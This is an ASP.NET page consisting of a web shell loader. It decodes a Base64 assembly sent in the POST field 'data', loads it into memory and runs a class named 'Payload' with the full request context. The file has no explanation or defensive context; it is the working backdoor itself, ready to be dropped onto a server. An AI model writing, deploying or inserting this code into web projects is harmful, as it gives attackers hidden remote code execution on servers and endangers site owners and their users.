<%@ Page Language="C#" %>
<%System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["data"])).CreateInstance("Payload").Equals(Context);%>
